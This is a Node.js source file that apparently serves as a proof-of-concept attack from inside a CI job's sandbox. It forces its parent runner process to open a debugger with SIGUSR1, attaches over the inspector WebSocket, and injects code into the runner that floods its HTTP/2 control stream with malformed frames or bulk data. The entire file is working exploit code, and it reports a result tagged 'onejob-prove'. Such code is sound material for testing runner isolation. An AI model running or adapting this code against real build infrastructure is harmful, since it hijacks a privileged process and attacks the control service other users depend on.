/**
 * Runs in the sandbox, as an action of a job: takes the guest runner over, which is its parent and has
 * the link, and sends on the link what no runner sends. A job is root beside the runner, so it may tell
 * that to listen to a debugger. FLOOD says what is sent, BYTES how much, ID whose attack it is.
 */
import { setTimeout as sleep } from 'node:timers/promises';

const INSPECTOR = 'http://127.0.0.1:9229/json/list';
const TRIES = 60;
const TRY_MS = 500;
/** What is sent is cut before; who is not cut goes on. */
const SEND_MS = 60_000;

/** Runs in the guest runner, with everything there that can be written to. */
function send(flood, bytes) {
  const control = this.find(
    (one) =>
      one.constructor.name === 'ClientHttp2Stream' &&
      !one.destroyed &&
      String(one.sentHeaders?.[':path']).endsWith('/control'),
  );
  if (control === undefined) return 'there is no control stream';
  if (flood === 'frames') {
    const { fd } = control.session.socket._handle;
    process.getBuiltinModule('node:fs').writeSync(fd, new Uint8Array(4096).fill(0xff));
    return 'sent';
  }
  const chunk = 'x'.repeat(1024 * 1024);
  let left = bytes;
  const more = () => {
    while (left > 0) {
      left -= chunk.length;
      if (!control.write(chunk)) return control.once('drain', more);
    }
  };
  more();
  return 'sent';
}

async function debuggerOf(pid) {
  process.kill(pid, 'SIGUSR1');
  for (let left = TRIES; ; left -= 1) {
    try {
      const [target] = await (await fetch(INSPECTOR)).json();
      return target.webSocketDebuggerUrl;
    } catch (error) {
      if (left === 0) throw error;
      await sleep(TRY_MS);
    }
  }
}

let socket;

/** @returns a function that calls a method of the debugger, for its result */
async function attach(url) {
  socket = new WebSocket(url);
  await new Promise((resolve, reject) => {
    socket.addEventListener('open', resolve, { once: true });
    socket.addEventListener('error', () => reject(new Error('no debugger')), { once: true });
  });
  const waiting = new Map();
  socket.addEventListener('message', ({ data }) => {
    const { id, result, error } = JSON.parse(data);
    waiting.get(id)?.(error === undefined ? result : { error });
  });
  return async (method, params) => {
    const id = waiting.size + 1;
    const answer = new Promise((resolve) => waiting.set(id, resolve));
    socket.send(JSON.stringify({ id, method, params }));
    const result = await answer;
    if (result.error !== undefined) throw new Error(`${method}: ${result.error.message}`);
    return result;
  };
}

const { FLOOD: flood, BYTES: bytes, ID: id } = process.env;

async function run() {
  const call = await attach(await debuggerOf(process.ppid));
  const expression = 'process.getBuiltinModule("node:stream").Duplex.prototype';
  const { result: prototype } = await call('Runtime.evaluate', { expression });
  const { objects } = await call('Runtime.queryObjects', {
    prototypeObjectId: prototype.objectId,
  });
  const { result } = await call('Runtime.callFunctionOn', {
    objectId: objects.objectId,
    functionDeclaration: String(send),
    arguments: [{ value: flood }, { value: Number(bytes) }],
    returnByValue: true,
  });
  await sleep(SEND_MS);
  return String(result.value);
}

const found = await run().then(
  (seen) => ({ seen, said: seen === 'sent' ? '' : seen }),
  (error) => ({ seen: '', said: String(error?.cause?.message ?? error?.message ?? error) }),
);
// Else it is waited for.
socket?.close();
process.stdout.write(`onejob-prove ${JSON.stringify({ id, ...found })}\n`);
